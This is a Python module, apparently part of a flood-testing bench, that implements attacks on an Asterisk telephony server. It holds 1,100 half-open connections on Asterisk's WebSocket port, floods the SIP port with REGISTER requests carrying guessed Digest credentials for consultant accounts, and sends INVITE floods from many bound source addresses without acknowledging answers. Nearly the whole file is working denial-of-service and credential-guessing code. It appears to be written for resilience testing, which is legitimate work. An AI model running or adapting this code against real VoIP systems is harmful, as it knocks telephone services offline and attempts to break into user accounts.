"""Attacks on Asterisk: half-open connections on its WebSocket port, REGISTER and INVITE floods."""

from __future__ import annotations

import secrets
import socket
from collections import Counter
from contextlib import ExitStack

from bench.flood.attacks.pace import at_rate
from bench.flood.attacks.raw_http import hold_half_open
from bench.flood.targets import HOST, Targets, source_address

HALF_OPEN, PER_SOURCE = 1_100, 100
SOURCES = 64
REGISTERS_PER_S, INVITES_PER_S = 1_000, 500
OFFER = (
    "v=0\r\no=- 1 1 IN IP4 {source}\r\ns=-\r\nc=IN IP4 {source}\r\nt=0 0\r\n"
    "m=audio 9 RTP/AVP 8 101\r\na=rtpmap:101 telephone-event/8000\r\n"
)


async def hold_asterisk_connections(targets: Targets, sent: Counter[str]) -> None:
    """Hold 1,100 half-open connections on Asterisk's port for the browsers' telephones."""
    await hold_half_open([targets.asterisk_http], HALF_OPEN, 54, PER_SOURCE, sent)


async def send_registers(targets: Targets, sent: Counter[str]) -> None:
    """Send REGISTER for consultants' accounts with guessed passwords."""
    await _send_requests(targets, "REGISTER", REGISTERS_PER_S, sent)


async def send_invites(targets: Targets, sent: Counter[str]) -> None:
    """Send INVITE from addresses that are no operator's, without acknowledging an answer."""
    await _send_requests(targets, "INVITE", INVITES_PER_S, sent)


async def _send_requests(targets: Targets, method: str, per_s: int, sent: Counter[str]) -> None:
    with ExitStack() as stack:
        sockets = [_bound(stack, source_address(55, number)) for number in range(SOURCES)]

        async def send(number: int) -> str:
            channel = sockets[number % SOURCES]
            login = targets.logins[number % len(targets.logins)]
            source, port = channel.getsockname()
            try:
                channel.sendto(
                    request(method, login, source, port, targets.sip), (HOST, targets.sip)
                )
            except BlockingIOError:
                return "buffer-full"
            return method.lower()

        await at_rate(per_s, send, sent, per_s)


def _bound(stack: ExitStack, source: str) -> socket.socket:
    channel = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    channel.bind((source, 0))
    channel.setblocking(False)
    return channel


def request(method: str, login: str, source: str, port: int, server_port: int) -> bytes:
    """Return a request of a stranger (RFC 3261), every time of another call."""
    call = secrets.token_hex(8)
    server = f"{HOST}:{server_port}"
    to = f"consultant-{login}" if method == "REGISTER" else "19115"
    body = OFFER.format(source=source) if method == "INVITE" else ""
    lines = [
        f"{method} sip:{server if method == 'REGISTER' else f'{to}@{server}'} SIP/2.0",
        f"Via: SIP/2.0/UDP {source}:{port};branch=z9hG4bK{call};rport",
        "Max-Forwards: 70",
        f"From: <sip:consultant-{login}@{HOST}>;tag={call[:6]}",
        f"To: <sip:{to}@{HOST}>",
        f"Call-ID: {call}",
        f"CSeq: 1 {method}",
        f"Contact: <sip:stranger@{source}:{port}>",
        f'Authorization: Digest username="consultant-{login}", realm="asterisk", '
        f'nonce="{call}", uri="sip:{server}", response="{secrets.token_hex(16)}"',
        *(["Content-Type: application/sdp"] if body else []),
        f"Content-Length: {len(body)}",
    ]
    return "\r\n".join([*lines, "", body]).encode()
